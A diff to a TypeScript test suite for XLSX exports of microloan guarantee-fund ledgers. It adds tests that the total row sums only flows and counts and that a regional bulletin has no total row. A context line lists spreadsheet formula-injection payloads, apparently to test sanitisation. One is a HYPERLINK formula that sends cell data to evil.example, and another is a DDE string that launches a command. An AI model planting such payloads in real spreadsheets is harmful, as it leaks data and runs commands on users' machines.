@@ -42,6 +42,37 @@ describe('exports laid out like the paper ledgers', () => {
     expect(sheet.getCell(6, amountColumn).value).toBe(50_001);
   });
 
+  const sheetOf = async (buffer: Buffer) => {
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(buffer as never);
+    return book.worksheets[0];
+  };
+
+  it('XLSX: the 合计 row adds only what adds: flows and per-record amounts and counts, never a running balance', async () => {
+    const movements = LEDGER_LAYOUTS['fund-movements'];
+    const lines = [
+      { fund_id: 'GC-360721', seq: 1, kind: 'contribution', cash_in: 100_000_00, balance_after: 100_000_00 },
+      { fund_id: 'GC-360721', seq: 2, kind: 'compensation', cash_out: 30_000_00, balance_after: 70_000_00 },
+    ];
+    const sheet = await sheetOf(await toXlsx(movements.title, '全部', movements.columns, lines));
+    const column = (key: string) => movements.columns.findIndex((c) => c.key === key) + 1;
+    expect(sheet.getCell(6, 1).value).toBe('合计');
+    expect([sheet.getCell(6, column('cash_in')).value, sheet.getCell(6, column('cash_out')).value]).toEqual([100_000, 30_000]);
+    expect(sheet.getCell(6, column('balance_after')).value).toBeNull(); // 170,000 would be no balance at all
+    expect(sheet.getCell(6, column('seq')).value).toBeNull();
+    const loans = await sheetOf(await toXlsx(layout.title, '全部', layout.columns, [{ persons_supported: 2 }, { persons_supported: 3 }]));
+    expect(loans.getCell(6, layout.columns.findIndex((c) => c.key === 'persons_supported') + 1).value).toBe(5);
+  });
+
+  it('XLSX: the bulletin has no 合计 row: its province row is the total, and adding its cities and counties to it would count each loan three times', async () => {
+    const region = (name: string, amount: number) => ({ region: name, month_loans: 39, month_amount: amount, outstanding: amount });
+    const rows = [region('江西省 (360000)', 195_000_000), region('赣州市 (360700)', 195_000_000), region('赣县 (360721)', 195_000_000)];
+    const sheet = await sheetOf(await toXlsx('全省小额担保贷款月报', '2011-06', BULLETIN_COLUMNS, rows));
+    const cells = [4, 5, 6, 7].map((r) => sheet.getCell(r, 1).value);
+    expect(cells).toEqual(['江西省 (360000)', '赣州市 (360700)', '赣县 (360721)', null]);
+    expect(sheet.getCell(4, BULLETIN_COLUMNS.findIndex((c) => c.key === 'month_amount') + 1).value).toBe(1_950_000);
+  });
+
   const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', "-2+3+cmd|' /C calc'!A0", '@SUM(1,1)', '\t=1+1', '\r=1+1'];
   const injected = hostile.map((name, i) => ({
     loan_id: `L${i}`,
